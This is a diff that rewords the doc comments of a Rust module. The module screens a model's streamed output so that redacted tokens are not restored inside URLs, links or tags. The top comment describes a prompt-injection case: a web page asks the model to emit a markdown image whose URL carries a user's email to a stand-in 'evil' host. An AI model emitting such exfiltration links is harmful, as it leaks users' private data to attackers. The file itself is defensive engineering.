@@ -1,25 +1,25 @@
 //! Where in a text for people a value must stay a token.
 //!
-//! A chat window fetches an image as soon as its markdown is complete. Text that a model was fed, a
-//! web page say, may ask it for `![](http://evil/?q=EMAIL_…)`; were the token restored there,
-//! showing the answer would send the value away. So four watchers read all that is emitted, one for
-//! each way in which a text names an address: URLs, link targets, reference definitions, and tags.
-//! Each one's veto is enough.
+//! A chat window fetches an image as soon as its markdown is complete. Text in the model's input,
+//! such as a web page, may ask the model for `![](http://evil/?q=EMAIL_…)`. If the token were
+//! restored there, showing the answer would send the value away. So four watchers read all emitted
+//! text, one for each way in which a text names an address: URLs, link targets, reference
+//! definitions, and tags. One veto is enough.
 //!
-//! The watchers know nothing of each other, on purpose. Markdown decides by precedence whether a
-//! bracket is a link's or a tag's, renderers disagree about it, and an attacker would write what we
-//! and they read differently. A watcher that takes every possible opening for a real one, and
-//! leaves only where every reading has left, cannot be led past by another's opinion. The price is
-//! a token that stays where a value would have done no harm.
+//! The watchers are independent on purpose. Markdown decides by precedence whether a bracket
+//! belongs to a link or to a tag, renderers disagree about it, and an attacker would write a text
+//! that we and a renderer read differently. A watcher takes every possible opening for a real one
+//! and leaves only where every reading has left, so no other watcher's opinion can mislead it. The
+//! price is a token that stays where a value would have done no harm.
 //!
-//! A watcher sees each byte once and keeps no text, so a split of the stream cannot change what it
-//! says. Its state is a small value: an answer of many texts is read once for each way in which a
+//! A watcher sees each byte once and keeps no text, so a split of the stream cannot change its
+//! result. Its state is a small value: an answer of many texts is read once for each way in which a
 //! client may join them ([`crate::Joined`]).
 //!
-//! What this does not stop: an address that only what follows a value makes one (`EMAIL_…
+//! Not covered: an address that becomes one only by the text after a value (`EMAIL_…
 //! .evil.example`), a list of strings that a program links across its quotes
-//! (`"http://evil/","EMAIL_…"`), and one that a person puts together by hand. Nothing fetches those
-//! by itself.
+//! (`"http://evil/","EMAIL_…"`), and an address that a person puts together by hand. No program
+//! fetches those by itself.
 
 mod definition;
 mod tag;
@@ -31,7 +31,7 @@ use tag::Tag;
 use target::LinkTarget;
 use url::Url;
 
-/// The state of all watchers behind some emitted text.
+/// The state of all watchers after some emitted text.
 #[derive(Clone, Copy, Default, PartialEq)]
 pub(crate) struct Watchers {
     url: Url,
@@ -41,7 +41,7 @@ pub(crate) struct Watchers {
 }
 
 impl Watchers {
-    /// Reads on over text that was emitted.
+    /// Reads more emitted text.
     pub(crate) fn read(&mut self, text: &str) {
         for byte in text.bytes() {
             self.url.step(byte);
@@ -57,13 +57,13 @@ impl Watchers {
     }
 }
 
-/// What ends a word. Fewer than Unicode knows: some renderers end an address at fewer, and none at
-/// fewer than these.
+/// Returns whether a byte ends a word. Unicode knows more spaces, but some renderers end an address
+/// at fewer, and none at fewer than these.
 fn is_space(byte: u8) -> bool {
     matches!(byte, b' ' | b'\t' | b'\n' | b'\r')
 }
 
-/// Notices a blank line, which ends every paragraph and with it whatever markdown left open.
+/// Detects blank lines, which end every paragraph and all that markdown left open in it.
 #[derive(Clone, Copy, PartialEq)]
 struct BlankLine {
     /// Nothing but spaces since the last newline.
@@ -77,7 +77,7 @@ impl Default for BlankLine {
 }
 
 impl BlankLine {
-    /// Reads a byte; true at the newline that ends a blank line.
+    /// Reads a byte. Returns true at the newline that ends a blank line.
     fn step(&mut self, byte: u8) -> bool {
         let ended = byte == b'\n' && self.blank;
         self.blank = byte == b'\n' || (self.blank && is_space(byte));
